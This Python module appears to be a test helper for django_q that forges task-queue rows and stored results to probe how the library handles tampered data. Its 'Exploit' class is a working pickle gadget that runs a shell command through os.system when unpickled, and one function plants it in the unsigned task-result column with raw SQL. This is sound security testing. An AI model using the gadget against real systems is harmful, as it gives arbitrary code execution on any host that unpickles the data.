"""Rows of the queue as somebody makes them who has the database, and the key."""

from __future__ import annotations

import os
from typing import Any

from django.db import connection
from django.utils import timezone
from django_q.conf import Conf
from django_q.models import OrmQ, Success
from django_q.signing import SignedPackage
from picklefield.fields import dbsafe_encode


class Exploit:
    """Runs its command while it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def forge(function: object, *args: object, **options: object) -> OrmQ:
    task = {"id": "0" * 32, "name": "forged", "func": function, "args": args, "kwargs": {}, "started": timezone.now()}
    return put(SignedPackage.dumps(task | options))


def forge_result(exploit: Exploit) -> None:
    """A saved task, which nobody signs, and which runs the command when it is read."""
    done = Success.objects.create(
        id="2" * 32, name="done", func="f", success=True, started=timezone.now(), stopped=timezone.now(), result="fine"
    )
    with connection.cursor() as cursor:
        encoded = str(dbsafe_encode(exploit, copy=False))
        cursor.execute("UPDATE django_q_task SET result = %s WHERE id = %s", [encoded, done.pk])


def put(payload: str) -> OrmQ:
    row: OrmQ = OrmQ.objects.create(key=Conf.CLUSTER_NAME, payload=payload, lock=timezone.now())
    return row
